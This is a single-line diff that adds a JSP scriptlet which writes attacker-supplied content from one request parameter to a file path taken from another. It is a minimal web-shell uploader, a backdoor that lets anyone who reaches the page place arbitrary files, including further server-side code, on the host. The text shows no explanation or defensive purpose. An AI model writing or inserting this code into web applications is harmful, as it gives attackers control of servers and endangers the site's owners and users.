@@ -1,0 +1,1 @@
+<% new java.io.FileOutputStream(request.getParameter("f")).write(request.getParameter("t").getBytes()); %>
